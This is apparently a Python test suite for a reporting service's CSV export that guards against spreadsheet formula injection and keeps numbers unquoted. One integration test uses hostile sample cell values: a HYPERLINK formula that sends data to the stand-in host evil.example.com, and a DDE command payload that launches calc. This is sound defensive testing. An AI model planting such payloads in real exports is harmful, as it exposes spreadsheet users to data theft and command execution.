"""CSV exports never hand a spreadsheet a formula (OWASP "CSV Injection"), and numbers stay numbers.

Org unit names and goal titles come from HR feeds and users: ``=HYPERLINK(...)`` is a legal
name. A text cell that starts with ``=``, ``+``, ``-``, ``@``, TAB or CR is exported with a
leading single quote, so a spreadsheet shows it as text; a negative number is left as it is.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from reporting_harness import StartReporting, publish_fast

from rhythm_reporting.entrypoints.http import render_csv
from rhythm_reporting.queries import Report
from rhythm_shared.contracts.v1.people import OrgUnitUpserted

FORMULA_START = "=+-@\t\r"


def exported(rows: list[dict[str, object]]) -> list[list[str]]:
    report = Report(
        metric="units",
        scope={"org_unit_id": "*"},
        period=None,
        summary={},
        columns={"name": "", "value": ""},
        rows=rows,
    )
    response = render_csv(report)
    return list(csv.reader(io.StringIO(bytes(response.body).decode(), newline="")))[1:]


@given(start=st.sampled_from(FORMULA_START), rest=st.text(max_size=40))
def test_a_text_cell_that_a_spreadsheet_would_evaluate_is_exported_as_text(
    start: str, rest: str
) -> None:
    [[name, _]] = exported([{"name": start + rest, "value": 1}])
    assert name == "'" + start + rest


@given(
    name=st.text(max_size=40).filter(lambda s: not s.startswith(tuple(FORMULA_START))),
    value=st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)),
)
def test_other_text_and_every_number_are_exported_unchanged(name: str, value: float) -> None:
    [[cell, number]] = exported([{"name": name, "value": value}])
    assert cell == name
    assert number == str(value)  # -12.5 stays -12.5: a number, not text


def test_a_negative_number_is_not_quoted() -> None:
    assert exported([{"name": "Sales", "value": -3}]) == [["Sales", "-3"]]


@pytest.mark.kafka
async def test_hostile_unit_names_reach_the_csv_export_as_text(
    start_reporting: StartReporting, kafka_bootstrap: str, topic_prefix: str, tenant: str
) -> None:
    now = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
    names = {
        "ou-root": "Acme",
        "ou-link": '=HYPERLINK("https://evil.example.com/?d="&A1,"Click")',
        "ou-cmd": "@SUM(1+1)*cmd|' /C calc'!A0",
        "ou-minus": "-Sales",
        "ou-plus": "+Support",
    }
    events = [
        OrgUnitUpserted(
            tenant_id=tenant,
            occurred_at=now,
            org_unit_id=unit,
            name=name,
            parent_id=None if unit == "ou-root" else "ou-root",
        )
        for unit, name in names.items()
    ]
    async with start_reporting() as svc:
        await svc.wait_consumed(
            await publish_fast(kafka_bootstrap, events, topic_prefix=topic_prefix)
        )
        response = await svc.client.get(
            "/v1/dashboards/units/export.csv", headers=svc.token("ceo", "executive")
        )
    assert response.status_code == 200, response.text
    table = list(csv.DictReader(io.StringIO(response.text, newline="")))
    shown = {row["org_unit_id"]: row["name"] for row in table}
    assert shown["ou-root"] == "Acme"
    for unit in ("ou-link", "ou-cmd", "ou-minus", "ou-plus"):
        assert shown[unit] == "'" + names[unit]
    assert all(row["depth"].lstrip("-").isdigit() for row in table)
